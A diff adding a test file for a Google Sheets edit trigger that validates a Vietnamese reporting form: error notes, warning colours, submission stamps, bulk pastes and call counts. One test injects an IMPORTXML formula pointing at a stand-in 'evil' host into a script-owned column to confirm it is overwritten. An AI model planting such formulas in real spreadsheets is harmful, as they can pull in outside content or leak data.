@@ -1,0 +1,127 @@
+// The check on every edit, through the BUILT bundle in the local runtime, as Sheets would fire it.
+import { boot, cells } from './boot';
+import { example1 } from '../fixtures/example1';
+import { DIRECTORY_COLUMNS, formById } from '../../src/core/forms/schema';
+import { ERROR_BACKGROUND, WARNING_BACKGROUND } from '../../src/core/marks';
+import { fromLocal } from '../../src/core/periods';
+import type { CellValue, Workbook } from '../../src/core/types';
+import type { Runtime } from '../../src/local/runtime';
+
+const TAB03 = 'Biểu mẫu 03';
+const form = formById('03');
+const col = (key: string) => form.columns.findIndex((c) => c.key === key); // 0-based, schema order
+const NOW = fromLocal(2024, 8, 20, 9, 0);
+
+function cell(rt: Runtime, row: number, key: string) {
+  const sheet = rt.spreadsheet.sheet(TAB03)!;
+  const c = col(key);
+  return { value: sheet.values.get(row - 1, c), note: sheet.notes.get(row - 1, c) ?? '', background: sheet.backgrounds.get(row - 1, c) ?? null };
+}
+
+/** A directory of n form-03 units and a row per unit for 06/2024 (valid), as a workbook. */
+function bigBook(units: number, rows: number): Workbook {
+  const directory: CellValue[][] = [DIRECTORY_COLUMNS.map((c) => c.header)];
+  for (let i = 1; i <= units; i++) directory.push([`X-${i}`, `Xã Thử ${i}`, '03', `x${i}@gialai.example`, '', '', 20, '', '', '', 'Có']);
+  const tab: CellValue[][] = [form.columns.map((c) => c.header)];
+  for (let i = 1; i <= rows; i++) tab.push(validRow(i, '06/2024', fromLocal(2024, 7, 5, 9, 0)));
+  return { 'Danh mục đơn vị': directory, 'Cấu hình': [['Tham số', 'Giá trị']], [TAB03]: tab };
+}
+
+function validRow(unit: number, period: string, stamp: Date | ''): CellValue[] {
+  return [unit, `Xã Thử ${unit}`, period, 100, 50, 20, 5, 10, 4, 2, 30, 1, 2, 310, 'Người báo cáo', '0912345678', '', '', stamp, '', ''];
+}
+
+describe('handleEdit (the installable edit trigger)', () => {
+  test('a count typed as text gets a note, a red background and an error status; fixing it clears them', () => {
+    const { rt, app } = boot(example1(), { now: NOW });
+    rt.edit(app, TAB03, 5, col('staff_installed') + 1, [['abc']]);
+    const bad = cell(rt, 5, 'staff_installed');
+    expect(bad.note).toMatch(/phải là một số/);
+    expect(bad.background).toBe(ERROR_BACKGROUND);
+    expect(cell(rt, 5, 'status').value).toBe('1 lỗi');
+    expect(cell(rt, 5, 'status').note).toContain(bad.note);
+    expect(cell(rt, 5, 'updated_at').value).toEqual(NOW);
+
+    rt.edit(app, TAB03, 5, col('staff_installed') + 1, [[170]]);
+    const fixed = cell(rt, 5, 'staff_installed');
+    expect([fixed.value, fixed.note, fixed.background]).toEqual([170, '', null]);
+    expect(cell(rt, 5, 'status').value).toBe('Hợp lệ');
+    // the row was valid before: its submission time stays the first one
+    expect(cell(rt, 5, 'submitted_at').value).toEqual(fromLocal(2024, 8, 6, 9, 0));
+  });
+
+  test('a warning colours the cell yellow and the status counts it', () => {
+    const { rt, app } = boot(example1(), { now: NOW });
+    rt.edit(app, TAB03, 7, col('unit') + 1, [['Đak Đoa']]);
+    expect(cell(rt, 7, 'unit').background).toBe(WARNING_BACKGROUND);
+    expect(cell(rt, 7, 'status').value).toBe('1 cảnh báo');
+  });
+
+  test('a row that becomes valid is stamped now; changing its period makes it a new report', () => {
+    const { rt, app } = boot(example1(), { now: NOW });
+    expect(cell(rt, 8, 'submitted_at').value).toEqual(fromLocal(2024, 8, 2, 10, 0));
+    rt.setNow(fromLocal(2024, 8, 20, 10, 0));
+    rt.edit(app, TAB03, 8, col('reporter') + 1, [['Phạm Thị Dung']]);
+    // it was stamped before (by the export); a fix does not rewrite the first stamp
+    expect(cell(rt, 8, 'status').value).toBe('1 cảnh báo'); // the phone 12345 stays a warning
+    expect(cell(rt, 8, 'submitted_at').value).toEqual(fromLocal(2024, 8, 2, 10, 0));
+    rt.setNow(fromLocal(2024, 8, 20, 11, 0));
+    rt.edit(app, TAB03, 8, col('period') + 1, [['08/2024']]);
+    expect(cell(rt, 8, 'submitted_at').value).toEqual(fromLocal(2024, 8, 20, 11, 0));
+  });
+
+  test('what is typed into a script-owned column is replaced by the script value', () => {
+    const { rt, app } = boot(example1(), { now: NOW });
+    rt.edit(app, TAB03, 2, col('status') + 1, [['=IMPORTXML("http://evil","//a")']]);
+    expect(cell(rt, 2, 'status').value).toBe('Hợp lệ');
+    rt.edit(app, TAB03, 2, col('submitted_at') + 1, [[fromLocal(2020, 1, 1)]]);
+    expect(cell(rt, 2, 'submitted_at').value).toEqual(NOW);
+  });
+
+  test('a 500-row paste is checked as one event: statuses, notes and stamps on every row', () => {
+    const { rt, app } = boot(bigBook(600, 0), { now: NOW });
+    const block = Array.from({ length: 500 }, (_, i) => validRow(i + 1, '07/2024', '').slice(0, col('submitted_at')));
+    block[10][col('staff_installed')] = 500; // installs above staff (100)
+    block[20][col('samples')] = '15 người';
+    const before = cells(rt, TAB03);
+    rt.resetCalls();
+    rt.edit(app, TAB03, 2, 1, block);
+    expect(rt.calls['Range.setNotes']).toBe(1);
+    expect(rt.calls['Range.setBackgrounds']).toBe(1);
+    const statuses = Array.from({ length: 500 }, (_, i) => cell(rt, i + 2, 'status').value);
+    expect(statuses.filter((s) => s === 'Hợp lệ')).toHaveLength(498);
+    expect(statuses[10]).toBe('1 lỗi');
+    expect(cell(rt, 12, 'staff_installed').background).toBe(ERROR_BACKGROUND);
+    expect(cell(rt, 22, 'samples').note).toMatch(/15 người/);
+    expect(cell(rt, 2, 'submitted_at').value).toEqual(NOW);
+    expect(cell(rt, 12, 'submitted_at').value).toBe(undefined);
+    // nothing the user pasted changed, outside the script-owned columns
+    const after = cells(rt, TAB03);
+    const owned = new Set(form.columns.map((c, i) => (c.scriptOwned ? i : -1)));
+    for (let r = 1; r <= 500; r++) for (let c = 0; c < col('submitted_at'); c++) if (!owned.has(c)) expect(after[r][c]).toEqual(block[r - 1][c] === '' ? '' : block[r - 1][c]);
+    void before;
+  });
+
+  test('Spreadsheet calls per edit do not grow with the rows of the tab or of the paste', () => {
+    const count = (rows: number, paste: number) => {
+      const { rt, app } = boot(bigBook(Math.max(rows, paste), rows), { now: NOW });
+      rt.resetCalls();
+      const block = Array.from({ length: paste }, (_, i) => validRow(i + 1, '06/2024', '').slice(0, col('submitted_at')));
+      rt.edit(app, TAB03, 2, 1, block);
+      return { ...rt.calls };
+    };
+    const small = count(10, 1);
+    expect(count(10_000, 1)).toEqual(small);
+    expect(count(10_000, 500)).toEqual(small);
+    const cellData = Object.entries(small).filter(([k]) => /^Range\.(get|set)(Values|DisplayValues|Notes|Backgrounds|NumberFormats|FontWeights|DataValidations)$/.test(k)).reduce((n, [, v]) => n + v, 0);
+    expect(cellData).toBeLessThanOrEqual(8);
+    expect(Object.values(small).reduce((a, b) => a + b, 0)).toBeLessThanOrEqual(25);
+  });
+
+  test('an edit on the directory re-checks the forms', () => {
+    const { rt, app } = boot(example1(), { now: NOW });
+    expect(cell(rt, 8, 'unit').background).toBe(null);
+    rt.edit(app, 'Danh mục đơn vị', 5, 11, [['Không']]); // Kông Chro entered by mistake
+    expect(cell(rt, 8, 'unit').background).toBe(ERROR_BACKGROUND);
+  });
+});
